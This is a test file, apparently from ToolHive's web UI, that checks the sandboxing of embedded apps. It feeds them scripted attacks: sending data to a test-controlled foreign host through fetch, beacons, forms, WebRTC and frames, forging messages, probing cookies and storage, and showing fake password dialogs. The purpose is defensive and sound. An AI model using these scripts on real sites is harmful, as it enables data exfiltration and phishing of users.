// @suite ui (in depth)
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { proves } from '@toolhive/testing/promises';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { appPage, openAppsWorld, openForeignHost, showApp } from './apps-world.ts';
import type { AppsWorld, ForeignHost } from './apps-world.ts';
import { useBrowser } from './world.ts';
import type { UiPage } from './world.ts';

useBrowser({ isShared: false });

/** How a test knows that an attack is over. */
type Over =
  /** The page says `over`. */
  | 'says so'
  /** The browser has replaced the page by its page for blocked addresses. */
  | 'is replaced'
  /** The browser has ended the process of the app, which Playwright reports for the page, or the page says `over`. */
  | 'is ended'
  /** The web UI shows this text. */
  | { text: RegExp };

interface Attack {
  script: (foreign: ForeignHost, ui: string) => string;
  over?: Over;
  /** Looks at the page afterwards. */
  check?: (visited: UiPage) => Promise<void>;
}

/** Does something, and then says so whether it worked or not. The answer of the host gives the browser time to start. */
const attempt = (script: string): string => `
(async () => { ${script} })().catch((error) => say('failed ' + error.name)).then(() => request('ping')).then(() => say('over'));`;

const attacks: Record<string, Attack> = {
  'floods the page through the gate': {
    script: () =>
      `setInterval(() => { for (let i = 0; i < 5000; i++) notify('ui/notifications/size-changed', { height: i }); }, 1);`,
    over: { text: /sent too many messages/ },
  },
  'floods the web UI past the gate': {
    script: () =>
      `setInterval(() => { for (let i = 0; i < 500; i++) top.postMessage({ jsonrpc: '2.0', id: i, method: 'ping' }, '*'); }, 1);`,
    over: { text: /sent too many messages/ },
  },
  'sends a message without end': {
    script: () => `notify('notifications/message', { data: 'x'.repeat(50_000_000) });`,
    over: { text: /too long/ },
  },
  'never returns': {
    script: () =>
      `connect().then(() => { notify('notifications/message', { data: 'no return' }); return request('ping'); }).then(() => { for (;;); });`,
    over: { text: /Log: no return/ },
    async check({ page }) {
      await page.getByRole('button', { name: 'Stop the app' }).click();
      await page.getByText('You stopped the app.').waitFor();
    },
  },
  'forges messages of other frames': {
    script: () =>
      attempt(`
const forged = { jsonrpc: '2.0', id: 99, method: 'tools/call', params: { name: 'greet', arguments: {} } };
const nested = document.createElement('iframe');
nested.srcdoc = '<script>const m = ' + JSON.stringify(forged) + '; top.postMessage(m, "*"); parent.parent.postMessage(m, "*"); top.frames[0].postMessage(m, "*");</' + 'script>';
document.body.append(nested);
await new Promise((resolve) => { nested.onload = resolve; });
const message = { kind: 'message', text: JSON.stringify(forged) };
for (const one of [message, { proof: '', isConfined: true }]) {
  top.postMessage(one, '*', [new MessageChannel().port1]);
  parent.postMessage({ ...one, html: 'x', title: 'x' }, '*', [new MessageChannel().port1]);
}
dispatchEvent(new MessageEvent('message', { source: top, data: forged }));`),
    check: async ({ page }) => expect(await page.getByRole('dialog').count()).toBe(0),
  },
  'takes the page elsewhere': {
    script: ({ tcp }) =>
      attempt(`
for (const go of [
  () => { top.location = 'http://${tcp}/top'; },
  () => top.location.replace('http://${tcp}/replace'),
  () => { parent.location.href = 'http://${tcp}/parent'; },
  () => { const a = document.createElement('a'); a.href = 'http://${tcp}/link'; a.target = '_top'; document.body.append(a); a.click(); },
  () => open('http://${tcp}/open', '_top'),
  () => open('http://${tcp}/open', '_parent'),
]) try { go(); } catch {}`),
  },
  'goes to another host itself': {
    script: ({ tcp }) => `location.href = 'http://${tcp}/self?stolen';`,
    over: 'is replaced',
  },
  'is refreshed to another host': {
    script: ({ tcp }) =>
      `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=http://${tcp}/refresh'; document.head.append(meta);`,
    over: 'is replaced',
  },
  'goes to the API': {
    script: (_foreign, ui) => `location.href = '${ui}/api/v1beta/workloads';`,
    over: 'is replaced',
  },
  'becomes a page of data': {
    script: ({ tcp }) =>
      `location.href = 'data:text/html,<script>fetch("http://${tcp}/data")</' + 'script>';`,
    over: 'is replaced',
  },
  'submits forms': {
    script: ({ tcp }) =>
      attempt(`
for (const method of ['get', 'post']) for (const target of ['', '_top', '_blank']) {
  const form = document.createElement('form');
  Object.assign(form, { action: 'http://${tcp}/form', method, target });
  document.body.append(form);
  form.submit();
}`),
    over: 'is replaced',
  },
  'reaches for the pages around it': {
    script: () =>
      attempt(`
const reached = [];
for (const [name, reach] of Object.entries({
  document: () => top.document.title, parent: () => parent.document.body, opener: () => opener.document,
  storage: () => top.localStorage, frame: () => frameElement.title, sibling: () => top.frames[0].document,
  eval: () => top.eval('1'),
})) try { if (reach() !== undefined) reached.push(name); } catch {}
say('reached ' + reached.join());`),
    check: async ({ page }) => expect(await saidIn(page)).toContain('reached | over'),
  },
  'stores data and reads cookies': {
    script: () =>
      attempt(`
const stored = [];
for (const [name, store] of Object.entries({
  local: () => localStorage.setItem('a', 'b'), session: () => sessionStorage.setItem('a', 'b'),
  cookie: () => { document.cookie = 'a=b'; if (document.cookie === '') throw new Error(); },
  database: () => new Promise((resolve, reject) => { const opened = indexedDB.open('a'); opened.onsuccess = resolve; opened.onerror = reject; }),
  caches: () => caches.open('a'), worker: () => navigator.serviceWorker.register('/page/worker.js'),
  files: () => navigator.storage.getDirectory(), channel: () => { new BroadcastChannel('a'); throw new Error('only within its origin'); },
})) try { await store(); stored.push(name); } catch {}
say('stored ' + stored.join());`),
    check: async ({ page }) => expect(await saidIn(page)).toContain('stored | over'),
  },
  'sends requests to another host': {
    script: ({ tcp }) =>
      attempt(`
const add = (tag, members, text) => { const one = Object.assign(document.createElement(tag), members); if (text) one.textContent = text; document.head.append(one); };
fetch('http://${tcp}/fetch', { mode: 'no-cors' }).catch(() => {});
new Image().src = 'http://${tcp}/image';
navigator.sendBeacon('http://${tcp}/beacon', 'x');
new WebSocket('ws://${tcp}/socket');
new EventSource('http://${tcp}/events');
const old = new XMLHttpRequest(); old.open('GET', 'http://${tcp}/xhr'); old.send();
for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'prerender', 'stylesheet', 'icon', 'manifest'])
  add('link', { rel, href: 'http://${tcp}/' + rel, as: 'script' });
add('style', {}, '@import url(http://${tcp}/import); body { background: url(http://${tcp}/background); } @font-face { font-family: x; src: url(http://${tcp}/font); } p { font-family: x; }');
add('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://${tcp}/rules'] }] }));
add('script', { src: 'http://${tcp}/script' });
import('http://${tcp}/module').catch(() => {});
document.body.insertAdjacentHTML('beforeend', '<video src="http://${tcp}/video" poster="http://${tcp}/poster"></video><object data="http://${tcp}/object"></object><embed src="http://${tcp}/embed"><svg><image href="http://${tcp}/svg"/></svg><a ping="http://${tcp}/ping" href="#x">x</a>');
document.querySelector('a').click();
new WebTransport('https://${tcp}/transport').closed.catch(() => {});`),
  },
  'connects with WebRTC': {
    script: ({ udp }) => webRtc(udp, `say('over')`),
  },
  'connects with WebRTC in a nested frame': {
    script: ({ udp }) => `
addEventListener('message', ({ data }) => { if (data === 'over') say('over'); });
const nested = document.createElement('iframe');
nested.srcdoc = '<script>' + ${JSON.stringify(webRtcText)}.replaceAll('UDP', '${udp}') + '</' + 'script>';
document.body.append(nested);`,
    over: 'is ended',
  },
  'opens windows and downloads': {
    script: ({ tcp }) =>
      attempt(`
open('http://${tcp}/popup'); open('about:blank'); open('javascript:alert(1)');
const a = document.createElement('a');
for (const members of [{ href: 'http://${tcp}/blank', target: '_blank' }, { href: 'data:text/plain,x', download: 'x.txt' }, { href: 'javascript:parent.alert(1)', target: '_blank' }]) {
  Object.assign(a, members); document.body.append(a); a.click();
}`),
    check: async ({ page }) => expect(page.context().pages()).toHaveLength(1),
  },
  'starts workers': {
    script: ({ tcp }) =>
      attempt(`
const url = URL.createObjectURL(new Blob(['fetch("http://${tcp}/worker")'], { type: 'text/javascript' }));
for (const Kind of [Worker, SharedWorker]) for (const from of [url, 'data:text/javascript,fetch("http://${tcp}/worker")'])
  try { new Kind(from); } catch {}`),
  },
  'nests frames': {
    script: ({ tcp }, ui) =>
      attempt(`
for (const src of ['http://${tcp}/nested', '${ui}/ui/', '${ui}/api/v1beta/workloads', 'data:text/html,<script>fetch("http://${tcp}/data")</' + 'script>', 'javascript:fetch("http://${tcp}/script")', URL.createObjectURL(new Blob(['<img src="http://${tcp}/blob">'], { type: 'text/html' }))]) {
  const nested = document.createElement('iframe'); nested.src = src; document.body.append(nested);
}
const written = document.createElement('iframe');
written.srcdoc = '<img src="http://${tcp}/srcdoc"><script>fetch("http://${tcp}/srcdoc"); location = "http://${tcp}/srcdoc"</' + 'script>';
document.body.append(written);`),
  },
  'calls the API': {
    script: (_foreign, ui) =>
      attempt(`
const read = [];
for (const options of [{}, { mode: 'no-cors', credentials: 'include' }, { method: 'POST', mode: 'no-cors', body: '{}' }])
  await fetch('${ui}/api/v1beta/workloads', options).then(() => read.push('answer'), () => {});
await fetch('/blocked').then(() => read.push('own origin'), () => {});
say('read ' + read.join());`),
    check: async ({ page }) => expect(await saidIn(page)).toContain('read | over'),
  },
  'acts without a permission': {
    script: () =>
      attempt(`
const call = { name: 'greet', arguments: {} };
notify('tools/call', call);
notify('ui/open-link', { url: 'https://example.com' });
for (const method of ['sampling/createMessage', 'ui/update-model-context', 'ui/download-file', 'elicitation/create', 'completion/complete', 'logging/setLevel', 'resources/subscribe', 'ui/notifications/sandbox-resource-ready', '__proto__', 'constructor'])
  say(String(await request(method, call)));
parent.postMessage({ jsonrpc: '2.0', id: {}, method: 'tools/call', params: call }, '*');
parent.postMessage({ jsonrpc: '2.0', id: null, method: 'tools/call', params: call }, '*');
parent.postMessage([{ jsonrpc: '2.0', id: 1, method: 'tools/call', params: call }], '*');
parent.postMessage({ jsonrpc: '2.0', id: 2, method: ['tools/call'], params: call }, '*');
parent.postMessage(new Map([['method', 'tools/call']]), '*');`),
    async check({ page }) {
      expect(await page.getByRole('dialog').count()).toBe(0);
      expect((await saidIn(page)).match(/is not supported/g)).toHaveLength(10);
    },
  },
  'imitates dialogs and takes the screen': {
    script: () =>
      attempt(`
alert('ToolHive needs your password'); confirm('x'); prompt('Password'); print();
document.body.insertAdjacentHTML('beforeend', '<dialog id="d" style="position:fixed;inset:0"><h1>ToolHive needs your password</h1><input autofocus></dialog>');
document.getElementById('d').showModal();
await document.documentElement.requestFullscreen().catch(() => {});
try { document.documentElement.requestPointerLock(); } catch {}
focus();
for (const height of [1e9, -5, 0, 1e308, '900', null, {}]) notify('ui/notifications/size-changed', { height, width: 1e9 });`),
    async check({ page }) {
      const box = await page.locator('.app-frame').boundingBox();
      const around = await page.getByRole('region', { name: 'App from apps' }).boundingBox();
      expect(box?.height).toBeLessThanOrEqual(800);
      expect(box?.height).toBeGreaterThanOrEqual(80);
      expect(box?.width).toBeLessThanOrEqual(around?.width ?? 0);
      expect(await page.evaluate(() => document.fullscreenElement)).toBe(null);
      await page.getByText('App from apps, not a part of ToolHive').waitFor();
    },
  },
  'asks for devices': {
    script: () =>
      attempt(`
const got = [];
for (const [name, ask] of Object.entries({
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }), screen: () => navigator.mediaDevices.getDisplayMedia(),
  place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  paste: () => navigator.clipboard.readText(), copy: () => navigator.clipboard.writeText('x'),
  usb: () => navigator.usb.requestDevice({ filters: [] }), bluetooth: () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }),
  notification: () => Notification.requestPermission().then((answer) => { if (answer !== 'granted') throw new Error(); }),
  wake: () => navigator.wakeLock.request(), share: () => navigator.share({ text: 'x' }),
})) try { await ask(); got.push(name); } catch {}
say('got ' + got.join());`),
    check: async ({ page }) => expect(await saidIn(page)).toContain('got | over'),
  },
  'loads its address again': {
    script: () => `location.reload();`,
    over: 'is replaced',
  },
};

/** Asks a STUN server, and calls `over` when the browser has gathered all addresses. */
function webRtc(server: string, over: string): string {
  return `
const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${server}' }] });
peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') ${over}; };
peer.createDataChannel('x');
peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
}

const webRtcText = webRtc('UDP', `parent.postMessage('over', '*')`);

const saidIn = (page: Page): Promise<string> =>
  page.frameLocator('.app-frame').frameLocator('iframe').locator('#said').innerText();

const nameOf = (title: string): string => title.replaceAll(' ', '-');

let world: AppsWorld;
let foreign: ForeignHost;

beforeAll(async () => {
  foreign = await openForeignHost();
  // The pages have to know the address of the web UI, which there is only when the server has its pages.
  const apps = Object.fromEntries(Object.keys(attacks).map((title) => [nameOf(title), { html: '' }]));
  world = await openAppsWorld(apps);
  for (const [title, { script }] of Object.entries(attacks))
    apps[nameOf(title)] = { html: appPage(script(foreign, world.base)) };
});
afterAll(async () => {
  await world[Symbol.asyncDispose]();
  await foreign[Symbol.asyncDispose]();
});

test.for(Object.entries(attacks))(
  'an app that %s has no effect',
  async ([title, { over = 'says so', check }]) => {
    proves('ui.apps');
    await using visited = await world.open('/ui/w/apps/tools');
    const { page, dialogs } = visited;
    const ended = new Promise<void>((resolve) => {
      page.once('crash', () => resolve());
    });

    const app = await showApp(page, nameOf(title));
    const sayingOver = () => app.getByText('over').waitFor();
    if (over === 'is replaced')
      await expect
        .poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:')))
        .toBe(true);
    else if (over === 'says so') await sayingOver();
    else if (over === 'is ended') await Promise.any([ended, sayingOver()]);
    else if (typeof over === 'object') await page.getByText(over.text).waitFor();
    await check?.(visited);

    expect(await foreign.arrived()).toEqual([]);
    expect(new URL(page.url()).pathname).toBe('/ui/w/apps/tools');
    expect(page.context().pages()).toHaveLength(1);
    expect(dialogs).toEqual([]);
    expect(
      world.server.seen.filter((line) => !line.startsWith('show-') && !line.startsWith('ui://')),
    ).toEqual([]);
    expect((await world.api('GET', '/workloads')).status).toBe(200);
    await page.getByRole('region', { name: 'Result' }).getByText('says hello').first().waitFor();
    await page.getByRole('button', { name: 'greet', exact: true }).click();
    await page.getByRole('heading', { name: 'greet' }).waitFor();
  },
);

test('the foreign host of these tests notices requests and WebRTC', async () => {
  await using other = await openForeignHost();
  const html = `<!doctype html><script>
    ${webRtc(other.udp, 'void 0')}
  </script><img src="http://${other.tcp}/image">`;
  const server = createServer((_request, response) =>
    response.setHeader('content-type', 'text/html').end(html),
  );
  await once(server.listen(0, '127.0.0.1'), 'listening');
  await using visited = await world.open('/ui/');
  const { page } = visited;

  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, { waitUntil: 'commit' });
  const arrived: string[] = [];
  await expect
    .poll(async () => {
      arrived.push(...(await other.arrived()));
      return arrived;
    })
    .toEqual(expect.arrayContaining(['GET /image HTTP/1.1', 'datagram']));
  server.closeAllConnections();
  server.close();
});
